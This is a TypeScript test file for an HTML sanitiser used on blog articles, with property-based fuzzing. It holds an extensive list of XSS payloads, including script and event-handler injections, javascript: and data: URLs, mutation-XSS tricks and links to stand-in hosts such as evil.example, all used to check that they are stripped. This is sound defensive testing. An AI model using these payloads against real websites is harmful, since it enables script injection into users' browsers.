import fc from 'fast-check';
import { Window } from 'happy-dom';
import { describe, expect, test } from 'vitest';
import { sanitiseHtml } from './sanitise-html.ts';

const TAGS =
  /^(p|h[234]|blockquote|hr|br|pre|code|[uod]l|li|d[td]|strong|em|u|s|su[bp]|a|figure|figcaption|img|table|caption|thead|tbody|tr|t[hd])$/;
const ATTRIBUTES = /^(href|title|rel|src|alt|width|height|loading|colspan|rowspan|scope|start)$/;

/** Everything in the parsed HTML that an article must not contain. */
function faultsOf(html: string): string[] {
  const { document } = new Window();
  document.body.innerHTML = html;
  return [...document.body.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase();
    const faults = TAGS.test(tag) ? [] : [`<${tag}>`];
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.test(name)) faults.push(`${tag}@${name}`);
      const isAddress = name === 'href' || name === 'src';
      const isFit = name === 'src' ? /^(https:\/\/|\/[^/\\])/ : /^(https?:\/\/|\/[^/\\]|\/$|#)/;
      if (isAddress && !isFit.test(value ?? '')) faults.push(`${tag}@${name}=${value}`);
    }
    return faults;
  });
}

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationend',
];
const SCRIPTY = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6a;&#x61;vascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'blob:https://steadwell.example/1',
  'file:///etc/passwd',
  'ftp://files.example/x',
  'mailto:a@example.com',
  '//evil.example/x',
  '/\\evil.example/x',
  '/\t/evil.example/x',
  '\\\\evil.example\\x',
  'evil.example/x',
  '../admin',
  'http://',
];
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">fallback<img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
  '<applet code="x"></applet><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=href to=javascript:alert(1)></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x onerror=alert(1)//',
  '<img src=`x` onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="https://ok.example/a.png" srcset="https://evil.example/b.png 2x">',
  '<img src="http://insecure.example/a.png">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>',
  '<a href="https://ok.example" target="_blank" ping="https://evil.example" id="root" name="root" class="fixed">x</a>',
  '<p id="root" name="getElementById" data-x="1" aria-label="x" contenteditable is="x-y">x</p>',
  '<p><<img src=x onerror=alert(1)>></p>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<p onclick\n=\n"alert(1)" ONCLICK=alert(2) on click=1>x</p>',
  '<a href="https://ok.example" onclick="alert(1)" href="javascript:alert(2)">x</a>',
  '<x-element onfocus=alert(1) tabindex=1 autofocus>x</x-element>',
  '<body onload=alert(1)><html manifest=x><head>x</head></html>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  ...SCRIPTY.flatMap((address) => [
    `<a href="${address}">x</a>`,
    `<img src="${address}">`,
    `<a href='${address}' title='"><img src=x onerror=alert(1)>'>x</a>`,
  ]),
  ...HANDLERS.flatMap((handler) => [
    `<p ${handler}="alert(1)">x</p>`,
    `<img src="/a.png" ${handler}=alert(1)>`,
    `<img src="/a.png" alt="a" ${handler.toUpperCase()}=alert(1)>`,
  ]),
];

describe('what an author sends', () => {
  test.each(PAYLOADS)('carries no attack: %s', (payload) => {
    const clean = sanitiseHtml(payload);
    expect(faultsOf(clean)).toEqual([]);
    expect(sanitiseHtml(clean)).toBe(clean);
    // The same inside allowed tags, and after an unclosed one.
    expect(faultsOf(sanitiseHtml(`<blockquote><p>${payload}</p></blockquote>`))).toEqual([]);
    expect(faultsOf(sanitiseHtml(`<p title="${payload}`))).toEqual([]);
  });

  test('the tool that looks for faults finds them', () => {
    expect(faultsOf('<p onclick="x">a<script>b</script></p>')).toEqual(['p@onclick', '<script>']);
    expect(faultsOf('<a href="javascript:x">a</a>')).toEqual(['a@href=javascript:x']);
    expect(faultsOf('<img src="http://x.example/a.png">')).toHaveLength(1);
  });

  test('whatever is put together at random comes out harmless, and once more unchanged', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...PAYLOADS,
        '<',
        '>',
        '"',
        "'",
        '</',
        '<!--',
        '-->',
        '<p>',
        '</p>',
        '<a href=',
        ' ',
      ),
      fc.string({ maxLength: 8 }),
    );
    const soup = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(soup, (html) => {
        const clean = sanitiseHtml(html);
        expect(faultsOf(clean)).toEqual([]);
        expect(sanitiseHtml(clean)).toBe(clean);
      }),
      { numRuns: 300 },
    );
  });

  test('keeps what an article is made of', () => {
    const article =
      '<h2>Title</h2><p>One <strong>bold</strong> and <em>soft</em> word, H<sub>2</sub>O.</p><ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote><p>c</p></blockquote><figure><img src="/images/a.svg" alt="" width="600" height="400" loading="lazy" /><figcaption>d</figcaption></figure><table><thead><tr><th scope="col">e</th></tr></thead><tbody><tr><td colspan="2">f</td></tr></tbody></table>';
    expect(sanitiseHtml(article)).toBe(article);
  });

  test('links to other sites say noopener, own ones stay plain; the page keeps its only h1', () => {
    expect(sanitiseHtml('<a href="https://who.int" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://who.int" rel="noopener noreferrer">x</a>',
    );
    expect(sanitiseHtml('<a href="/blogs/a-b">x</a><a href="#c">y</a>')).toBe(
      '<a href="/blogs/a-b">x</a><a href="#c">y</a>',
    );
    expect(sanitiseHtml('<h1>A</h1><b>B</b><i>C</i><h6>D</h6>')).toBe(
      '<h2>A</h2><strong>B</strong><em>C</em><h4>D</h4>',
    );
  });
});
